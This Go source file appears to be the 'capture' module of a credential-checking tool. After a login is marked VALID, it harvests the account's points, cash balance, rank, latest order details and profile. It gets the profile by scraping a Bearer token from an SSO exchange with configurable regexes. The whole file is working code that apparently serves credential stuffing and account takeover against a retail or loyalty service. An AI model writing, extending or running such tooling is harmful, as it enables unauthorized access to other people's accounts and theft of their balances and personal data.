package protocol

import (
	"context"
	"encoding/json"
	"io"
	"net/http"
	"regexp"

	"github.com/cuemby/credcheck/pkg/log"
	"github.com/cuemby/credcheck/pkg/model"
)

// Capture reuses a VALID session to pull account detail. Every sub-step is
// independently guarded: a failure logs at warn level and leaves the
// corresponding field nil rather than failing the overall result, since a
// capture failure must never turn a VALID credential into ERROR.
func Capture(ctx context.Context, s *Session) *model.Capture {
	logger := log.WithComponent("capture")
	capture := &model.Capture{}

	if err := captureHeaderInfo(ctx, s, capture); err != nil {
		logger.Warn().Err(err).Msg("header info capture failed")
	}
	if err := captureOrderHistory(ctx, s, capture); err != nil {
		logger.Warn().Err(err).Msg("order history capture failed")
	}
	if profile, err := captureProfile(ctx, s); err != nil {
		logger.Warn().Err(err).Msg("profile capture failed")
	} else {
		capture.Profile = profile
	}

	return capture
}

type headerInfoResponse struct {
	Points string `json:"points"`
	Cash   string `json:"cash"`
	Rank   int    `json:"rank"`
}

func captureHeaderInfo(ctx context.Context, s *Session, capture *model.Capture) error {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, s.BaseURL+"/account/header", nil)
	if err != nil {
		return err
	}
	resp, err := s.HTTPClient.Do(req)
	if err != nil {
		return err
	}
	defer resp.Body.Close()

	var out headerInfoResponse
	if err := json.NewDecoder(resp.Body).Decode(&out); err != nil {
		return err
	}
	capture.Points = out.Points
	capture.Cash = out.Cash
	capture.Rank = model.RankName(out.Rank)
	return nil
}

func captureOrderHistory(ctx context.Context, s *Session, capture *model.Capture) error {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, s.BaseURL+"/account/orders", nil)
	if err != nil {
		return err
	}
	resp, err := s.HTTPClient.Do(req)
	if err != nil {
		return err
	}
	defer resp.Body.Close()

	body, err := io.ReadAll(resp.Body)
	if err != nil {
		return err
	}

	date, id := extractLatestOrder(string(body), s.Rules.OrderHistoryRegexes)
	if date != "" {
		capture.LatestOrderDate = &date
	}
	if id != "" {
		capture.LatestOrderID = &id
	}
	return nil
}

// extractLatestOrder tries each configured pattern in order and returns the
// first match's date/id capture groups, since the order-history markup is
// brittle and changes without notice — operators update the pattern list,
// not this code.
func extractLatestOrder(html string, patterns []string) (date, id string) {
	for _, p := range patterns {
		re, err := regexp.Compile(p)
		if err != nil {
			continue
		}
		m := re.FindStringSubmatch(html)
		if m == nil {
			continue
		}
		if len(m) > 1 {
			date = m[1]
		}
		if len(m) > 2 {
			id = m[2]
		}
		return date, id
	}
	return "", ""
}

func captureProfile(ctx context.Context, s *Session) (*model.Profile, error) {
	bearer, err := ssoExchangeForBearer(ctx, s)
	if err != nil {
		return nil, err
	}

	req, err := http.NewRequestWithContext(ctx, http.MethodGet, s.BaseURL+"/account/profile", nil)
	if err != nil {
		return nil, err
	}
	req.Header.Set("Authorization", "Bearer "+bearer)

	resp, err := s.HTTPClient.Do(req)
	if err != nil {
		return nil, err
	}
	defer resp.Body.Close()

	var profile model.Profile
	if err := json.NewDecoder(resp.Body).Decode(&profile); err != nil {
		return nil, err
	}
	return &profile, nil
}

// ssoExchangeForBearer drives the second SSO form-walk and token exchange.
// The Bearer token may appear in a header, a redirect fragment, or an
// inline script depending on deployment, hence the ordered-regex
// heuristic over the raw response body.
func ssoExchangeForBearer(ctx context.Context, s *Session) (string, error) {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, s.BaseURL+"/sso/exchange", nil)
	if err != nil {
		return "", err
	}
	resp, err := s.HTTPClient.Do(req)
	if err != nil {
		return "", err
	}
	defer resp.Body.Close()

	body, err := io.ReadAll(resp.Body)
	if err != nil {
		return "", err
	}

	for _, p := range s.Rules.BearerTokenRegexes {
		re, err := regexp.Compile(p)
		if err != nil {
			continue
		}
		if m := re.FindStringSubmatch(string(body)); len(m) > 1 {
			return m[1], nil
		}
	}
	return "", errNoBearerToken
}

var errNoBearerToken = captureErr("no bearer token matched any configured pattern")

type captureErr string

func (e captureErr) Error() string { return string(e) }
